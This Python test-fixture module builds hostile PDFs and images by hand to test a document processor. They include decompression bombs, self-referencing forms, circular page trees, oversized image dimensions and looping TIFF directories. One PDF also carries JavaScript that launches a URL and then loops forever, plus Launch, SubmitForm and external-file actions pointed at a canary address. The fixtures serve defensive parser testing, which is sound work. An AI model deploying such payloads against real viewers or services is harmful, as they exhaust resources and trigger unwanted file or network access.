"""Hostile PDF files and pictures: bombs, loops, references to other files, damage. None is larger than 2 MB.

Each is written by hand, octet by octet where no program would write it.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Mapping

from PIL import Image

from tests.documents.zoo_office import VISIBLE, Canary

MIB = 1 << 20


def stream(data: bytes, entries: str = "", compressed: int = 0) -> bytes:
    """A stream object, so many times compressed."""
    for _ in range(compressed):
        data = zlib.compress(data, 9)
    filters = f"/Filter [{' /FlateDecode' * compressed} ]" if compressed else ""
    return f"<< /Length {len(data)} {filters} {entries} >>\nstream\n".encode() + data + b"\nendstream"


def pdf(objects: Mapping[int, str | bytes], trailer: str = "") -> bytes:
    """A file with these objects, of which 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(out)
        out += f"{number} 0 obj\n".encode() + (content if isinstance(content, bytes) else content.encode())
        out += b"\nendobj\n"
    begin, count = len(out), max(objects) + 1
    out += f"xref\n0 {count}\n0000000000 65535 f \n".encode()
    for number in range(1, count):
        out += f"{places.get(number, 0):010} 00000 {'n' if number in places else 'f'} \n".encode()
    return (
        bytes(out)
        + f"trailer << /Size {count} /Root 1 0 R {trailer} >>\nstartxref\n{begin}\n%%EOF\n".encode()
    )


FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
SAYS = f"BT /F 24 Tf 72 700 Td ({VISIBLE}) Tj ET\n".encode()


def one_page(
    content: bytes = SAYS,
    resources: str = "",
    more: Mapping[int, str | bytes] | None = None,
    page: str = "",
    catalogue: str = "",
    box: str = "0 0 595 842",
    compressed: int = 0,
) -> bytes:
    """A page of A4; further objects have numbers from 10."""
    return pdf(
        {
            1: f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R "
            f"/Resources << /Font << /F 5 0 R >> {resources} >> {page} >>",
            4: stream(content, compressed=compressed),
            5: FONT,
            **(more or {}),
        }
    )


def _form(number: int, content: bytes, uses: str = "") -> dict[int, bytes]:
    entries = f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << {uses} >> >>"
    return {number: stream(content, entries)}


def _doubling_forms(levels: int) -> bytes:
    """Each form draws the next one twice: 2 ** levels rectangles."""
    forms: dict[int, bytes] = {}
    for level in range(levels):
        forms |= _form(10 + level, b"/N Do 1 0 0 1 1 1 cm /N Do", f"/N {11 + level} 0 R")
    forms |= _form(10 + levels, b"0 0 9 9 re f")
    return one_page(b"/X Do", "/XObject << /X 10 0 R >>", forms)


def _many_pages(count: int) -> bytes:
    """A tree of hundreds of hundreds, all leaves of which are one page."""
    kids = " ".join(["3 0 R"] * 100)
    return pdf(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: f"<< /Type /Pages /Kids [{' '.join(['6 0 R'] * (count // 100))}] /Count {count} >>",
            3: "<< /Type /Page /Parent 6 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
            4: stream(b"0 0 100 100 re f"),
            6: f"<< /Type /Pages /Parent 2 0 R /Kids [{kids}] /Count 100 >>",
        }
    )


def _image(width: int, height: int, data: bytes, entries: str = "", bits: int = 1) -> bytes:
    return one_page(
        SAYS + b"q 500 0 0 500 40 40 cm /I Do Q",
        "/XObject << /I 10 0 R >>",
        {
            10: stream(
                data,
                f"/Type /XObject /Subtype /Image /Width {width} /Height {height} /BitsPerComponent {bits} "
                f"/ColorSpace /DeviceGray {entries}",
            )
        },
    )


def _object_stream() -> bytes:
    """Its objects are 512 MiB of blanks, compressed twice."""
    return pdf(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            4: stream(_blanks(512), "/Type /ObjStm /N 1000000 /First 20", 0).replace(
                b"/Type", b"/Filter [/FlateDecode /FlateDecode] /Type"
            ),
        }
    )


def bomb(mebibytes: int, octet: bytes = b"\0") -> bytes:
    """So many of them, compressed; a block of a mebibyte is made once and repeated."""
    coder = zlib.compressobj(9, wbits=-15)
    block = coder.compress(octet * MIB) + coder.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(mebibytes):
        check = zlib.adler32(octet * MIB, check)
    return b"\x78\xda" + block * mebibytes + b"\x03\x00" + struct.pack(">I", check)


def _blanks(mebibytes: int, octet: bytes = b" ") -> bytes:
    """Compressed twice: some thousand octets a gibibyte."""
    return zlib.compress(bomb(mebibytes, octet), 9)


def _fonts(kind: str, data: bytes) -> bytes:
    return one_page(
        more={
            5: f"<< /Type /Font /Subtype /{kind} /BaseFont /Broken /FirstChar 32 /LastChar 126 "
            f"/Widths [{'600 ' * 95}] /FontDescriptor 10 0 R >>",
            10: "<< /Type /FontDescriptor /FontName /Broken /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 "
            f"/Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile{'2' if kind == 'TrueType' else ''} 11 0 R >>",
            11: stream(data, f"/Length1 {len(data)} /Length2 0 /Length3 0"),
        }
    )


def _true_type() -> bytes:
    """A directory of tables that all have the whole file, and loops in their glyphs."""
    tables = [b"cmap", b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp"]
    data = struct.pack(">IHHHH", 0x00010000, len(tables), 64, 2, 48)
    for tag in tables:
        data += tag + struct.pack(">III", 0, 12, 0xFFFFFFF0)
    return data + bytes(range(256)) * 20


def _references(canary: Canary) -> bytes:
    """What a viewer might read or call: streams in other files, reference XObjects, actions, forms."""
    file, address = canary.file("png").removeprefix("file://"), canary.address("pdf")
    return one_page(
        SAYS + b"q 300 0 0 300 40 40 cm /I Do Q /R Do",
        "/XObject << /I 10 0 R /R 11 0 R >>",
        {
            10: "<< /Type /XObject /Subtype /Image /Width 300 /Height 300 /BitsPerComponent 8 /ColorSpace /DeviceRGB "
            f"/F ({file}) /FFilter /FlateDecode /Length 0 >>\nstream\n\nendstream",
            11: stream(
                b"",
                f"/Type /XObject /Subtype /Form /BBox [0 0 500 500] /Ref << /F ({canary.folder}/canary.pdf) /Page 0 >>",
            ),
            12: f"<< /Type /Annot /Subtype /Screen /Rect [0 0 500 500] /F 4 /A << /S /URI /URI ({address}) >> "
            f"/AA << /PO << /S /Launch /F ({file}) >> /PV << /S /SubmitForm /F << /FS /URL /F ({address}) >> >> >> >>",
            13: f"<< /S /JavaScript /JS (app.launchURL\\('{address}'\\); while \\(true\\) this.addField\\('x'\\);) >>",
            14: "<< /Fields [] /XFA 15 0 R >>",
            15: stream(
                f'<xdp><template href="{address}"/><image href="{canary.file("png")}"/></xdp>'.encode()
            ),
        },
        page="/Annots [12 0 R] /AA << /O 13 0 R >>",
        catalogue="/OpenAction 13 0 R /AcroForm 14 0 R /Names << /JavaScript << /Names [(a) 13 0 R] >> >>",
    )


def _pattern() -> bytes:
    """A pattern whose cells are a millionth of a point apart."""
    return one_page(
        b"/Pattern cs /P scn 0 0 595 842 re f",
        "/Pattern << /P 10 0 R >>",
        {
            10: stream(
                b"0 0 1 1 re f",
                "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.000001 "
                "/YStep 0.000001 /Resources << >>",
            )
        },
    )


def _truncated() -> bytes:
    data = one_page()
    return data[: len(data) // 2]


PDF: Mapping[str, Callable[[Canary], bytes]] = {
    "plain.pdf": lambda _: one_page(),
    "draws itself.pdf": lambda _: one_page(
        b"/X Do", "/XObject << /X 10 0 R >>", _form(10, b"/X Do /X Do 0 0 9 9 re f", "/X 10 0 R")
    ),
    "doubling forms.pdf": lambda _: _doubling_forms(26),
    "a page of blanks.pdf": lambda _: one_page(b"", more={4: _twice_compressed(1024)}),
    "a page of zeros.pdf": lambda _: one_page(b"", more={4: _twice_compressed(1024, b"\0")}),
    "object stream.pdf": lambda _: _object_stream(),
    "references.pdf": _references,
    "huge page.pdf": lambda _: one_page(box="0 0 1e9 1e9"),
    "tiny page.pdf": lambda _: one_page(box="0 0 0.0001 0.0001"),
    "long page.pdf": lambda _: one_page(box="0 0 10 14400"),
    "user unit.pdf": lambda _: one_page(page="/UserUnit 1e6"),
    "many pages.pdf": lambda _: _many_pages(100_000),
    "truncated.pdf": lambda _: _truncated(),
    "only a header.pdf": lambda _: b"%PDF-1.7\n",
    "page tree in a circle.pdf": lambda _: pdf(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
        }
    ),
    "claims pages.pdf": lambda _: pdf(
        {1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [] /Count 1000000000 >>"}
    ),
    "contents in a circle.pdf": lambda _: one_page(more={4: "[4 0 R 4 0 R]"}),
    "length of itself.pdf": lambda _: one_page(
        more={4: b"<< /Length 4 0 R >>\nstream\n" + SAYS + b"\nendstream"}
    ),
    "earlier table.pdf": lambda _: one_page().replace(b"/Root", b"/Prev 9 /Root"),
    "nested arrays.pdf": lambda _: one_page(more={10: "[" * 200_000}, page="/Extra 10 0 R"),
    "nested states.pdf": lambda _: one_page(b"q " * 300_000 + SAYS),
    "large picture.pdf": lambda _: _image(
        65535, 65535, _blanks(512, b"\0"), "/Filter [/FlateDecode /FlateDecode]"
    ),
    "deep picture.pdf": lambda _: _image(
        30000, 30000, _blanks(858, b"\0"), "/Filter [/FlateDecode /FlateDecode]", bits=8
    ),
    "jpeg picture.pdf": lambda _: _image(65535, 65535, large_jpeg(), "/Filter /DCTDecode", bits=8),
    "fax picture.pdf": lambda _: _image(
        65535,
        65535,
        b"\0" * 100,
        "/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 65535 /Rows 65535 >>",
    ),
    "true type.pdf": lambda _: _fonts("TrueType", _true_type()),
    "type 1.pdf": lambda _: _fonts(
        "Type1", b"%!PS-AdobeFont-1.0: X\n/Subrs 1000000000 array\n" + bytes(range(256))
    ),
    "glyph that writes.pdf": lambda _: one_page(
        more={
            5: "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] "
            "/CharProcs << /a 10 0 R >> /Encoding << /Differences [65 /a /a /a /a /a /a /a /a /a /a /a /a /a /a /a "
            "/a /a /a /a /a /a /a] >> /FirstChar 65 /LastChar 90 /Widths [1000] /Resources << /Font << /F 5 0 R >> >> >>",
            10: stream(b"1000 0 d0 BT /F 1 Tf (AAAAAAAA) Tj ET"),
        }
    ),
    "pattern.pdf": lambda _: _pattern(),
    "many operators.pdf": lambda _: one_page(b"", more={4: _operators(8)}),
}


def _twice_compressed(mebibytes: int, octet: bytes = b" ") -> bytes:
    return stream(_blanks(mebibytes, octet), "/Filter [/FlateDecode /FlateDecode]")


def _operators(mebibytes: int) -> bytes:
    """Curves over the whole page, one after the other."""
    piece = b"0 0 m 600 900 -600 900 600 0 c S\n"
    data = zlib.compress(zlib.compress(piece * (mebibytes * MIB // len(piece)), 9), 9)
    return stream(data, "/Filter [/FlateDecode /FlateDecode]")


# Pictures


def saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    file = io.BytesIO()
    picture.save(file, kind, **options)  # type: ignore[arg-type]
    return file.getvalue()


def large_jpeg() -> bytes:
    """65,535 by 65,535 pixels, of which the first few are there."""
    data = bytearray(saved(Image.new("RGB", (64, 64), "white"), "JPEG"))
    start = data.index(b"\xff\xc0")
    data[start + 5 : start + 9] = struct.pack(">HH", 65535, 65535)
    return bytes(data)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, colour: int, bits: int, mebibytes: int, extra: bytes = b"") -> bytes:
    """Its pixels are so many mebibytes of zeros."""
    data = bomb(mebibytes)
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _tiff(*directories: tuple[dict[int, tuple[int, int, int]], int], size: int = 4096) -> bytes:
    """Directories one after the other from octet 8: tags as (type, count, value), and the next one's place."""
    data = b"II*\0" + struct.pack("<I", 8)
    for tags, following in directories:
        data += struct.pack("<H", len(tags))
        for tag, (kind, count, value) in sorted(tags.items()):
            data += struct.pack("<HHII", tag, kind, count, value)
        data += struct.pack("<I", following)
    return data.ljust(size, b"\0")


def _tags(width: int, height: int, compression: int = 1) -> dict[int, tuple[int, int, int]]:
    return {
        256: (4, 1, width),
        257: (4, 1, height),
        258: (3, 1, 8),
        259: (3, 1, compression),
        262: (3, 1, 1),
        273: (4, 1, 1024),
        277: (3, 1, 1),
        278: (4, 1, height),
        279: (4, 1, 2048),
    }


def _animation(frames: int) -> bytes:
    first = saved(Image.new("P", (8, 8)), "GIF")
    body, end = first[:-1], first[-1:]
    frame = b"\x21\xf9\x04\x00\x00\x00\x00\x00" + body[body.index(b"\x2c") :]
    return body + frame * frames + end


PICTURES: Mapping[str, Callable[[Canary], bytes]] = {
    "large.jpg": lambda _: large_jpeg(),
    "bilevel.png": lambda _: png(60000, 60000, 0, 1, 430),
    "colour.png": lambda _: png(12000, 12000, 2, 8, 412),
    "deep.png": lambda _: png(30000, 30000, 6, 16, 100),
    "text.png": lambda _: png(100, 100, 0, 8, 1, chunk(b"zTXt", b"k\0\0" + bomb(256))),
    "profile.png": lambda _: png(100, 100, 0, 8, 1, chunk(b"iCCP", b"k\0\0" + bomb(256))),
    "large.bmp": lambda _: saved(Image.new("1", (8, 8)), "BMP").replace(
        struct.pack("<ii", 8, 8), struct.pack("<ii", 60000, 60000)
    ),
    "large.gif": lambda _: saved(Image.new("P", (8, 8)), "GIF").replace(
        struct.pack("<HH", 8, 8), struct.pack("<HH", 65535, 65535)
    ),
    "animation.gif": lambda _: _animation(100_000),
    "large.webp": lambda _: saved(Image.new("RGB", (8, 8)), "WEBP").replace(
        b"\x9d\x01\x2a" + struct.pack("<HH", 8, 8), b"\x9d\x01\x2a" + struct.pack("<HH", 16383, 16383)
    ),
    "endless.tif": lambda _: _tiff((_tags(100, 20), 8)),
    "two in a circle.tif": lambda _: _tiff((_tags(100, 20), 122), (_tags(100, 20), 8)),
    "large.tif": lambda _: _tiff((_tags(65535, 65535), 0)),
    "packed.tif": lambda _: _tiff((_tags(65535, 65535, 5), 0)),
    "strips.tif": lambda _: _tiff(({**_tags(100, 20), 273: (4, 0x7FFFFFFF, 1024), 278: (4, 1, 1)}, 0)),
    "samples.tif": lambda _: _tiff(({**_tags(100, 20), 277: (3, 1, 65535)}, 0)),
    "big.tif": lambda _: b"II+\0" + struct.pack("<HHQQ", 8, 0, 16, 1 << 60),
    "zeros.tif": lambda _: b"II*\0" + bytes(1000),
    "picture.ppm": lambda _: b"P6 65535 65535 255\n" + bytes(1000),
}
